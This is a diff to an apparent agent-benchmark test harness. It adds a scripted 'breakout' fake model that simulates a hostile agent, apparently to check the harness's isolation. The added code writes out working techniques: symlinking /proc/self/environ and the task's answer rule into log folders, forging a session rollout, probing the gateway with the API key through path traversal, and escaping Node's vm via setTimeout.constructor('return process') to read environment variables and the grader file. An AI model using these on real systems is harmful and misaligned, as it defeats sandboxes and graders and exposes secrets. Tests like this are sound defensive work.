@@ -11,7 +11,8 @@ The server is stateless per request, like a model: it reads the instruction (tas
 session id, start URL) and the tool results so far from the request, and decides the next step.
 The model id picks a behaviour: `webbench-script` solves the task, `-401` / `-429` answer with
 that status, `-stall` never answers, `-curl` first fetches the site with the CLI's shell tool,
-`-grader` first tries to read the task's answer rule. Usage is reported in each protocol's own
+`-grader` first tries to read the task's answer rule, `-breakout` tries every way around the walls
+(ScriptedModel.breakout) and answers with what it found. Usage is reported in each protocol's own
 fields, and what was sent is kept per browser session so a test can compare the report's tokens.
 """
 
@@ -83,10 +84,48 @@ def _json_in(text: str) -> Any:
 
 
 class ScriptedModel:
-    def __init__(self, suite_dir: Path | None = None):
+    def __init__(self, suite_dir: Path | None = None, canary: Path | None = None):
         self.suite_dir = suite_dir
+        self.canary = canary  # a harness file outside any trial, which a planted link points at
         self.sent: dict[str, dict[str, int]] = {}  # session id -> usage totals sent
         self.requests: list[dict] = []
+
+    def breakout(self, conv: Conversation) -> list[Step]:
+        """A hostile agent, as a new user tried one: links planted where the harness copies from
+        and writes to, a forged rollout that sorts last, its token used on other gateway paths and
+        models, and browser code that leaves Node's vm for the host's process to read the task's
+        answer rule (and file: URLs for the same), in any arm: the code passes the playwright
+        arm's rules. It writes whatever price it found to answer.json and says it."""
+        assert self.suite_dir is not None and self.canary is not None
+        task = self.suite_dir / "tasks" / "shop-price" / "task.toml"
+        forged = ('{"timestamp":"2026-12-31T00:00:00.000Z","type":"response_item","payload":{"type":"function_call",'
+                  '"name":"exec_command","arguments":"{\\"cmd\\":\\"echo forged\\"}","call_id":"call_forged"}}')
+        shell = (
+            "ln -s /proc/self/environ /logs/agent/environ.txt; "
+            f"ln -s {task.parent} /logs/agent/task; ln -s {task} /logs/agent/answer-rule.toml; "
+            f"ln -s {self.canary} /logs/agent/trajectory.json; ln -s {self.canary.parent} /logs/agent/images; "
+            "f=$(ls -t $CODEX_HOME/sessions/*/*/*/*.jsonl 2>/dev/null | head -1); if [ -n \"$f\" ]; then "
+            "mkdir -p $CODEX_HOME/sessions/9999/12/31; cp $f $CODEX_HOME/sessions/9999/12/31/rollout-9999-12-31T00-00-00.jsonl; "
+            f"echo '{forged}' >> $CODEX_HOME/sessions/9999/12/31/rollout-9999-12-31T00-00-00.jsonl; fi; "
+            "echo GATEWAY; for p in models files ../../models %2e%2e/models responses/resp_1; do "
+            "curl -s -m 5 --path-as-is -o /dev/null -w \"$p %{http_code}\\n\" -H \"Authorization: Bearer $OPENAI_API_KEY\" \"$OPENAI_BASE_URL/$p\"; done; "
+            "for body in '{\"model\":\"o1-pro\",\"store\":false,\"input\":\"hi\"}' "
+            "'{\"model\":\"webbench-script-breakout\",\"store\":false,\"background\":true,\"input\":\"hi\"}'; do "
+            "curl -s -m 5 -o /dev/null -w \"body %{http_code}\\n\" -H \"Authorization: Bearer $OPENAI_API_KEY\" "
+            "-H 'content-type: application/json' -d \"$body\" \"$OPENAI_BASE_URL/responses\"; done; echo END")
+        code = (
+            "const out = {};"
+            "for (const via of [() => setTimeout.constructor('return process')(), () => Buffer.constructor('return process')()]) {"
+            "  try { const p = via(); const fs = p.getBuiltinModule('fs');"
+            f"    out.env = Object.keys(p.env); out.rule = fs.readFileSync({str(task)!r}, 'utf8'); break;"
+            "  } catch (e) { out.error = String(e.message); } }"
+            f"try {{ await page.goto('file://{task}'); out.file = await page.content(); }} catch (e) {{ out.file = String(e.message); }}"
+            "out.contexts = browser.contexts().length;"
+            "return out;")
+        found = re.search(r"equals = ([0-9.]+)", "\n".join(conv.results))
+        answer = json.dumps({"price": float(found.group(1)) if found else None})
+        return [Step("shell", {"cmd": shell}), Step("execute_playwright_code", {"session_id": conv.session_id, "code": code}),
+                Step("shell", {"cmd": f"echo '{answer}' > /app/answer.json"}), Step(text=answer)]
 
     def script(self, conv: Conversation) -> Step:
         preface = []
@@ -109,6 +148,8 @@ class ScriptedModel:
                 "$(echo $mine | sed 's#/[^/]*/mcp$#/a-guessed-key/mcp#') 2>&1 | head -c 300; echo; echo END")})]
         if conv.model.endswith("-grader") and self.suite_dir:
             preface = [Step("shell", {"cmd": f"cat {self.suite_dir}/tasks/shop-price/task.toml"})]
+        if conv.model.endswith("-breakout"):
+            return self.breakout(conv)[len(conv.results)]
         if len(conv.results) < len(preface):
             return preface[len(conv.results)]
         results = conv.results[len(preface):]
@@ -174,8 +215,8 @@ def _text_of(content: Any) -> str:
 
 
 class ModelEndpoint:
-    def __init__(self, suite_dir: Path | None = None, latency: float = 0.0):
-        self.model = ScriptedModel(suite_dir)
+    def __init__(self, suite_dir: Path | None = None, latency: float = 0.0, canary: Path | None = None):
+        self.model = ScriptedModel(suite_dir, canary)
         self.latency = latency  # seconds before each answer, as a hosted model takes to respond
         self.app = Starlette(routes=[
             Route("/v1/responses", self.responses, methods=["POST"]),
